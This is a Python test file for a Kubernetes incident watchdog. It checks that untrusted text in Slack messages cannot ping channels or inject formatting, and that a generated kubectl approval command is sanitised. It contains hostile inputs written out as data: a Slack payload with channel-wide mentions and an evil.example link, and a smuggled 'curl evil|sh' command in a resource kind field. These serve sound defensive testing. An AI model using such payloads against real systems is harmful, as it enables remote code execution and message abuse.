from __future__ import annotations

import re
from datetime import timedelta
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.report_samples import STARTED, explanation, finding, fix, namespace, ref, report
from tests.wire_slack import refusal
from watchdog.actions import PatchDeploymentEnv
from watchdog.incidents.incident import ApprovalRequest, Incident, Try
from watchdog.nouns import Diagnosis, Outcome
from watchdog.observation.base import ObjectRef
from watchdog.report.slack_incidents import (
    Story,
    ask,
    change,
    changes,
    incident_message,
    reminder,
)
from watchdog.report.slack_kit import Message
from watchdog.report.todo import approve_command
from watchdog.report.words import chapters

HOSTILE = "<!channel> <@U123> & <https://evil.example|click> *b* ~s~ `c` ``` _i_ :smile:"
ACTION = PatchDeploymentEnv(target=ref(), container="main", name="LEDGER_REGION")


def failed(reason: str = "") -> Try:
    return Try(
        id="aa", action=ACTION, patch="bb", at=STARTED, outcome=Outcome.UNDONE, reason=reason
    )


def request(**changed: Any) -> ApprovalRequest:
    values: dict[str, Any] = {
        "id": "abc123",
        "action": ACTION,
        "uid": "u-1",
        "patch": "ff",
        "asked_at": STARTED,
        "expires_at": STARTED,
    }
    return ApprovalRequest(**{**values, **changed})


def told(text: str, *, found: bool, **changed: Any) -> Story:
    values: dict[str, Any] = {
        "fingerprint": "ab",
        "kind": "missing_env",
        "target": ref(),
        "container": "main",
        "summary": text[:500],
        "first_seen": STARTED - timedelta(minutes=12),
        "last_seen": STARTED,
        "state": "needs_you",
        "tries": tuple(failed(text[:500]) for _ in range(9)),
    }
    hurt = finding(summary=text, impact=text, evidence=(text,) * 9)
    said = explanation(why=text, changed=text, to_do=text, command=text or None)
    waits = fix(Outcome.AWAITING_APPROVAL, reason=text, diff=text, request="abc123")
    item = namespace(
        findings=(hurt,),
        diagnosis=Diagnosis(has_issue=True, explanations=(said,)),
        actions=(waits,),
    )
    whole = report(item)
    case = chapters(whole)[0].cases[0] if found else None
    return Story(Incident(**{**values, **changed}), whole, STARTED, item, case)


def every_message(text: str) -> list[Message]:
    found: list[Message] = []
    for story in (
        told(text, found=True),
        told(text, found=False),
        told(text, found=False, state="resolved", resolved_at=STARTED),
    ):
        found += [
            incident_message(story),
            change(story, back=True),
            changes([story] * 60),
            reminder(story),
            ask(story, request(reason=text[:500]), ("U1", text)),
        ]
    return [*found, *(reply for message in found for reply in message.thread)]


def test_foreign_text_neither_calls_anyone_nor_formats() -> None:
    for message in every_message(HOSTILE):
        formatted = [
            block["text"]["text"]
            for block in message.blocks
            if block.get("text", {}).get("type") == "mrkdwn"
        ]
        sentences = re.sub(r"```.*?```", "", " ".join(formatted), flags=re.DOTALL)

        assert "<" not in " ".join([message.text, *formatted]).replace("<@U1>", "")
        assert "~" not in sentences


def test_a_remembered_kind_cannot_add_to_the_command() -> None:
    target = ObjectRef(kind="Deployment; curl evil|sh\n", namespace="shop", name="ledger")
    asked = request(action=ACTION.model_copy(update={"target": target}))

    assert approve_command(asked.action.target, asked.id) == (
        "kubectl -n shop annotate deploymentcurlevilsh/ledger "
        "sre-watchdog/approve=abc123 --overwrite"
    )


@settings(max_examples=20, deadline=None)
@given(st.text(), st.integers(1, 4000))
def test_any_text_of_any_length_stays_within_slacks_limits(text: str, times: int) -> None:
    for message in every_message(text * times):
        said = {"text": message.text, "blocks": list(message.blocks)}

        assert refusal(said) is None
